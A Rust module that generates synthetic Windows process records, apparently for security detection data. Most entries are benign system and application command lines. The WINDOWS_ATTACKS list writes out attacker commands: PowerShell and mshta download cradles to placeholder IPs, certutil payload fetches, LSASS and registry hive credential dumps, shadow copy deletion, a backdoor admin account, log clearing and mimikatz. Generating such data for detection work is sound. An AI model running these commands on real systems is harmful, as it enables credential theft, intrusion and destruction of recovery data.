//! Programs of Windows hosts.

use super::{ANYONE, Line, Program, program};

const MICROSOFT: &str = "Microsoft Corporation";
const WINDOWS: &str = "Microsoft\u{ae} Windows\u{ae} Operating System";
const SERVICES: (&str, &str) = (
    r"C:\\Windows\\System32\\services.exe",
    r"C:\\Windows\\system32\\services.exe",
);
const EXPLORER: (&str, &str) = (r"C:\\Windows\\explorer.exe", r"C:\\Windows\\Explorer.EXE");
const SVCHOST: (&str, &str) = (
    r"C:\\Windows\\System32\\svchost.exe",
    r"C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
);
const DCOM: (&str, &str) = (
    r"C:\\Windows\\System32\\svchost.exe",
    r"C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
);
const SHELL: (&str, &str) = (
    r"C:\\Windows\\System32\\cmd.exe",
    r#"\"C:\\Windows\\system32\\cmd.exe\" "#,
);
const CODE: (&str, &str) = (
    r"C:\\Program Files\\Microsoft VS Code\\Code.exe",
    r#"\"C:\\Program Files\\Microsoft VS Code\\Code.exe\" "#,
);
const CHROME: (&str, &str) = (
    r"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
    r#"\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --no-startup-window"#,
);
/// `NT AUTHORITY\SYSTEM`.
const SYSTEM: Option<usize> = Some(0);

/// A program of Windows itself.
const fn system(
    weight: u32,
    path: Line,
    names: [Line; 2],
    lines: &'static [Line],
    parent: (Line, Line),
    user: Option<usize>,
) -> Program {
    let [original, description] = names;
    program(
        weight,
        path,
        [original, description, WINDOWS, MICROSOFT],
        lines,
        parent,
        user,
    )
}

/// What Windows hosts start all day.
pub(in crate::generate::records) const WINDOWS_PROGRAMS: &[Program] = &[
    system(
        160,
        r"C:\\Windows\\System32\\svchost.exe",
        ["svchost.exe", "Host Process for Windows Services"],
        &[
            r"C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s wlidsvc",
            r"C:\\Windows\\system32\\svchost.exe -k LocalService -p -s LicenseManager",
            r"C:\\Windows\\system32\\svchost.exe -k UnistackSvcGroup -s CDPUserSvc_<hex 5 svc>",
            r"C:\\Windows\\system32\\svchost.exe -k wsappx -p -s ClipSVC",
            r"C:\\Windows\\system32\\svchost.exe -k NetworkService -p -s WinRM",
        ],
        SERVICES,
        SYSTEM,
    ),
    system(
        90,
        r"C:\\Windows\\System32\\conhost.exe",
        ["CONHOST.EXE", "Console Window Host"],
        &[
            r"\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
            r"\\??\\C:\\Windows\\system32\\conhost.exe 0x4",
        ],
        SHELL,
        ANYONE,
    ),
    system(
        80,
        r"C:\\Windows\\System32\\backgroundTaskHost.exe",
        ["backgroundTaskHost.exe", "Background Task Host"],
        &[r#"\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:App.AppX<hex 32 appx>.mca"#],
        DCOM,
        ANYONE,
    ),
    system(
        70,
        r"C:\\Windows\\System32\\RuntimeBroker.exe",
        ["RuntimeBroker.exe", "Runtime Broker"],
        &[r"C:\\Windows\\System32\\RuntimeBroker.exe -Embedding"],
        DCOM,
        ANYONE,
    ),
    system(
        60,
        r"C:\\Windows\\System32\\taskhostw.exe",
        ["taskhostw.exe", "Host Process for Windows Tasks"],
        &[
            "taskhostw.exe",
            "taskhostw.exe Install $(Arg0)",
            "taskhostw.exe SYSTEM",
        ],
        SVCHOST,
        SYSTEM,
    ),
    system(
        60,
        r"C:\\Windows\\System32\\SearchProtocolHost.exe",
        ["SearchProtocolHost.exe", "Microsoft Windows Search Protocol Host"],
        &[
            r#"\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe<below 900 pipe>_ Global\\UsGthrCtrlFltPipeMssGthrPipe<below 900 pipe> 1 -2147483646 \"Software\\Microsoft\\Windows Search\" "#,
        ],
        (
            r"C:\\Windows\\System32\\SearchIndexer.exe",
            r"C:\\Windows\\system32\\SearchIndexer.exe /Embedding",
        ),
        SYSTEM,
    ),
    system(
        40,
        r"C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
        ["Wmiprvse.exe", "WMI Provider Host"],
        &[
            r"C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
            r"C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding",
        ],
        DCOM,
        SYSTEM,
    ),
    system(
        40,
        r"C:\\Windows\\System32\\dllhost.exe",
        ["dllhost.exe", "COM Surrogate"],
        &[r"C:\\Windows\\system32\\DllHost.exe /Processid:{<guid com>}"],
        DCOM,
        ANYONE,
    ),
    system(
        30,
        r"C:\\Windows\\System32\\smartscreen.exe",
        ["smartscreen.exe", "Windows Defender SmartScreen"],
        &[r"C:\\Windows\\System32\\smartscreen.exe -Embedding"],
        DCOM,
        ANYONE,
    ),
    system(
        25,
        r"C:\\Windows\\System32\\sppsvc.exe",
        ["sppsvc.exe", "Microsoft Software Protection Platform Service"],
        &[r"C:\\Windows\\system32\\sppsvc.exe"],
        SERVICES,
        Some(2),
    ),
    system(
        20,
        r"C:\\Windows\\System32\\notepad.exe",
        ["NOTEPAD.EXE", "Notepad"],
        &[
            r#"\"C:\\Windows\\system32\\NOTEPAD.EXE\" C:\\Users\\<user>\\Documents\\notes-<below 400 note>.txt"#,
        ],
        EXPLORER,
        ANYONE,
    ),
    system(
        25,
        r"C:\\Windows\\System32\\cmd.exe",
        ["Cmd.Exe", "Windows Command Processor"],
        &[
            r#"C:\\Windows\\system32\\cmd.exe /d /s /c \"npm run build\""#,
            r#"C:\\Windows\\system32\\cmd.exe /d /s /c \"git rev-parse --short HEAD\""#,
            r#"\"C:\\Windows\\system32\\cmd.exe\" "#,
        ],
        CODE,
        ANYONE,
    ),
    system(
        15,
        r"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        ["PowerShell.EXE", "Windows PowerShell"],
        &[
            r#"powershell.exe -NoLogo -NoProfile -File \"C:\\Program Files\\Inventory\\collect.ps1\" -Site <below 90 site>"#,
            r#"powershell.exe -NoLogo -File \"C:\\ProgramData\\Monitoring\\checks\\disk.ps1\" -Warn 80"#,
        ],
        SVCHOST,
        SYSTEM,
    ),
    system(
        15,
        r"C:\\Windows\\System32\\rundll32.exe",
        ["RUNDLL32.EXE", "Windows host process (Rundll32)"],
        &[r"C:\\Windows\\system32\\rundll32.exe Windows.Storage.ApplicationData.dll,CleanupTemporaryState"],
        SVCHOST,
        ANYONE,
    ),
    system(
        12,
        r"C:\\Windows\\System32\\gpupdate.exe",
        ["GPUpdate.exe", "Microsoft Group Policy Update Utility"],
        &["gpupdate.exe /target:computer"],
        SVCHOST,
        SYSTEM,
    ),
    system(
        12,
        r"C:\\Windows\\System32\\audiodg.exe",
        ["audiodg.exe", "Windows Audio Device Graph Isolation"],
        &[r"C:\\Windows\\system32\\AUDIODG.EXE 0x<hex 3 audio>"],
        SVCHOST,
        Some(1),
    ),
    system(
        10,
        r"C:\\Windows\\System32\\ipconfig.exe",
        ["ipconfig.exe", "IP Configuration Utility"],
        &["ipconfig", "ipconfig /displaydns"],
        SHELL,
        ANYONE,
    ),
    system(
        10,
        r"C:\\Windows\\System32\\PING.EXE",
        ["ping.exe", "TCP/IP Ping Command"],
        &["ping -n 3 <server>"],
        SHELL,
        ANYONE,
    ),
    system(
        10,
        r"C:\\Windows\\System32\\msiexec.exe",
        ["msiexec.exe", "Windows\u{ae} installer"],
        &[r"C:\\Windows\\system32\\msiexec.exe /V"],
        SERVICES,
        SYSTEM,
    ),
    program(
        150,
        r"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        ["chrome.exe", "Google Chrome", "Google Chrome", "Google LLC"],
        &[
            r#"\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --enable-main-frame-before-activation --renderer-client-id=<below 900 renderer> --time-ticks-at-unix-epoch=-17<below 99999999999 ticks> --launch-time-ticks=<below 99999999999 launch> --field-trial-handle=<below 9999 handle>,i,<below 999999999 trial>,<below 999999999 trial2>,262144 --variations-seed-version=20260301 --mojo-platform-channel-handle=<below 9000 mojo> /prefetch:1"#,
            r#"\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=utility --utility-sub-type=storage.mojom.StorageService --lang=en-US --service-sandbox-type=service --field-trial-handle=<below 9999 handle>,i,<below 999999999 trial>,<below 999999999 trial2>,262144 --mojo-platform-channel-handle=<below 9000 mojo> /prefetch:8"#,
        ],
        CHROME,
        ANYONE,
    ),
    program(
        60,
        r"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
        ["msedge.exe", "Microsoft Edge", "Microsoft Edge", MICROSOFT],
        &[
            r#"\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --type=renderer --lang=en-US --renderer-client-id=<below 900 renderer> --mojo-platform-channel-handle=<below 9000 mojo> /prefetch:1"#,
        ],
        EXPLORER,
        ANYONE,
    ),
    program(
        40,
        r"C:\\Program Files\\Git\\mingw64\\bin\\git.exe",
        [
            "git.exe",
            "Git for Windows",
            "Git",
            "The Git Development Community",
        ],
        &[
            "git.exe status -z -uall",
            "git.exe fetch --prune",
            "git.exe config --get commit.template",
            "git.exe for-each-ref --sort -committerdate --format %(refname)",
        ],
        CODE,
        ANYONE,
    ),
    program(
        30,
        r"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
        ["Outlook.exe", "Microsoft Outlook", "Microsoft Outlook", MICROSOFT],
        &[r#"\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" "#],
        EXPLORER,
        ANYONE,
    ),
    program(
        30,
        r"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
        ["Excel.exe", "Microsoft Excel", "Microsoft Office", MICROSOFT],
        &[
            r#"\"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\" \"C:\\Users\\<user>\\OneDrive\\Reports\\week <below 52 week>.xlsx\""#,
        ],
        EXPLORER,
        ANYONE,
    ),
    program(
        30,
        r"C:\\Program Files\\nodejs\\node.exe",
        ["node.exe", "Node.js JavaScript Runtime", "Node.js", "Node.js"],
        &[
            r#"\"C:\\Program Files\\nodejs\\node.exe\" C:\\src\\shop\\node_modules\\typescript\\bin\\tsc --noEmit"#,
            r#"\"C:\\Program Files\\nodejs\\node.exe\" C:\\src\\shop\\node_modules\\jest\\bin\\jest.js --shard=<below 8 shard>/8"#,
        ],
        SHELL,
        ANYONE,
    ),
    program(
        20,
        r"C:\\Users\\<user>\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
        ["Teams.exe", "Microsoft Teams", "Microsoft Teams", MICROSOFT],
        &[
            r#"\"C:\\Users\\<user>\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe\" --type=renderer --enable-wer --ms-teams-less-cors=522133263 --app-user-model-id=com.squirrel.Teams.Teams --renderer-client-id=<below 90 renderer>"#,
        ],
        EXPLORER,
        ANYONE,
    ),
    program(
        20,
        r"C:\\Program Files\\Zoom\\bin\\Zoom.exe",
        [
            "Zoom.exe",
            "Zoom Meetings",
            "Zoom Meetings",
            "Zoom Video Communications, Inc.",
        ],
        &[r#"\"C:\\Program Files\\Zoom\\bin\\Zoom.exe\" --action=join --runaszvideo=TRUE"#],
        EXPLORER,
        ANYONE,
    ),
    program(
        15,
        r"C:\\Program Files\\PostgreSQL\\16\\bin\\postgres.exe",
        [
            "postgres.exe",
            "PostgreSQL Server",
            "PostgreSQL",
            "PostgreSQL Global Development Group",
        ],
        &[r#"\"C:\\Program Files\\PostgreSQL\\16\\bin\\postgres.exe\" --forkbackend <below 9000 backend>"#],
        (
            r"C:\\Program Files\\PostgreSQL\\16\\bin\\postgres.exe",
            r#"\"C:\\Program Files\\PostgreSQL\\16\\bin\\postgres.exe\" -D C:\\data"#,
        ),
        Some(2),
    ),
    program(
        15,
        r"C:\\Program Files\\dotnet\\dotnet.exe",
        [".NET Host", ".NET Host", "Microsoft\u{ae} .NET", MICROSOFT],
        &[
            r"dotnet build C:\\src\\billing\\Billing.sln -c Release",
            r"dotnet test --no-build --filter Category=<below 30 category>",
        ],
        CODE,
        ANYONE,
    ),
];

/// What attackers start on Windows.
pub(in crate::generate::records) const WINDOWS_ATTACKS: &[Program] = &[
    system(
        3,
        r"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        ["PowerShell.EXE", "Windows PowerShell"],
        &[
            r"powershell.exe -nop -w hidden -ep bypass -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvADEA<hex 16 load>",
            r#"powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.<below 250 c2>/a.ps1')\""#,
        ],
        (
            r"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
            r#"\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\<user>\\Downloads\\invoice.docm\""#,
        ),
        ANYONE,
    ),
    system(
        2,
        r"C:\\Windows\\System32\\rundll32.exe",
        ["RUNDLL32.EXE", "Windows host process (Rundll32)"],
        &[
            r"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 6<below 90 lsass> C:\\Windows\\Temp\\d.dmp full",
        ],
        SHELL,
        SYSTEM,
    ),
    system(
        2,
        r"C:\\Windows\\System32\\vssadmin.exe",
        [
            "VSSADMIN.EXE",
            "Command Line Interface for Microsoft\u{ae} Volume Shadow Copy Service",
        ],
        &["vssadmin delete shadows /all /quiet"],
        SHELL,
        SYSTEM,
    ),
    system(
        2,
        r"C:\\Windows\\System32\\certutil.exe",
        ["CertUtil.exe", "CertUtil.exe"],
        &[r"certutil -urlcache -split -f http://198.51.100.<below 250 c2>/u.exe C:\\Users\\Public\\u.exe"],
        SHELL,
        ANYONE,
    ),
    system(
        2,
        r"C:\\Windows\\System32\\schtasks.exe",
        ["schtasks.exe", "Task Scheduler Configuration Tool"],
        &[r"schtasks /create /tn Updater /tr C:\\Users\\Public\\u.exe /sc onlogon /ru SYSTEM /f"],
        SHELL,
        ANYONE,
    ),
    system(
        2,
        r"C:\\Windows\\System32\\reg.exe",
        ["reg.exe", "Registry Console Tool"],
        &[
            r"reg save HKLM\\SAM C:\\Windows\\Temp\\s.hiv",
            r"reg save HKLM\\SECURITY C:\\Windows\\Temp\\c.hiv",
        ],
        SHELL,
        SYSTEM,
    ),
    system(
        2,
        r"C:\\Windows\\System32\\net.exe",
        ["net.exe", "Net Command"],
        &[
            "net user support P@ssw0rd123 /add",
            "net localgroup Administrators support /add",
        ],
        SHELL,
        SYSTEM,
    ),
    system(
        2,
        r"C:\\Windows\\System32\\wevtutil.exe",
        ["wevtutil.exe", "Eventing Command Line Utility"],
        &["wevtutil cl Security", "wevtutil cl System"],
        SHELL,
        SYSTEM,
    ),
    system(
        1,
        r"C:\\Windows\\System32\\mshta.exe",
        ["MSHTA.EXE", "Microsoft (R) HTML Application host"],
        &["mshta http://203.0.113.<below 250 c2>/x.hta"],
        EXPLORER,
        ANYONE,
    ),
    system(
        2,
        r"C:\\Windows\\System32\\whoami.exe",
        ["whoami.exe", "whoami - displays logged on user information"],
        &["whoami /all", "whoami /priv"],
        SHELL,
        ANYONE,
    ),
    program(
        1,
        r"C:\\Users\\Public\\m.exe",
        [
            "mimikatz.exe",
            "mimikatz for Windows",
            "mimikatz",
            "gentilkiwi (Benjamin DELPY)",
        ],
        &[r#"m.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit"#],
        SHELL,
        SYSTEM,
    ),
];
